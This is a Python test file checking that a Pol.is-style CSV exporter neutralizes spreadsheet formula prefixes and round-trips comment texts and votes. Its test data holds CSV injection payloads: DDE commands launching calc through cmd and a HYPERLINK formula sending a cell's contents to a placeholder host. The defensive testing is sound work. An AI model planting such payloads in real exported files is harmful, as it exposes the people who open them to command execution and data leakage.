"""Every CSV Concord writes neutralizes formula prefixes (OWASP CSV injection), and a Pol.is
re-import reads back exactly the texts and votes that were written (issue 13)."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from concord.opinion.polis import (
    FORMULA_PREFIXES,
    PolisComment,
    neutralize,
    read_export,
    unneutralize,
    write_export,
)

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "'plain quote",
    "ordinary text",
]


def test_formula_cells_are_neutralized_and_a_round_trip_keeps_texts_and_votes(
    tmp_path: Path,
) -> None:
    comments = [PolisComment(comment_id=i, text=t) for i, t in enumerate(DANGEROUS)]
    votes = [(1_700_000_000_000 + i, i, 10 + i % 3, (-1, 0, 1)[i % 3]) for i in range(10)]
    votes.append((1_700_000_100_000, 0, 11, -1))
    write_export(
        tmp_path,
        comments=comments,
        votes=votes,
        groups={10: 0, 11: 1},
        summary={"topic": "=cmd|' /C calc'!A0", "conversation-description": "-x"},
    )
    for name in ("comments.csv", "votes.csv", "participants-votes.csv", "summary.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    # A number (a vote of -1) may start with "-"; no text cell may start
                    # with a prefix a spreadsheet runs.
                    if cell.startswith(FORMULA_PREFIXES):
                        float(cell)
    export = read_export(tmp_path)
    assert [c.text for c in export.comments] == DANGEROUS
    assert export.summary["topic"] == "=cmd|' /C calc'!A0"
    assert export.summary["conversation-description"] == "-x"
    # The votes: the latest per (participant, statement), -1 included.
    final: dict[tuple[int, int], int] = {}
    for _ts, cid, pid, v in sorted(votes):
        final[(pid, cid)] = v
    m = export.votes
    read = {}
    for row, pid in enumerate(m.participant_ids):
        for k in range(int(m.indptr[row]), int(m.indptr[row + 1])):
            read[(int(pid), int(m.statement_ids[m.indices[k]]))] = int(m.values[k])
    assert read == final


@given(st.text(max_size=30))
def test_neutralize_is_undone_exactly(text: str) -> None:
    written = neutralize(text)
    assert not written.startswith(FORMULA_PREFIXES)
    assert unneutralize(written) == text
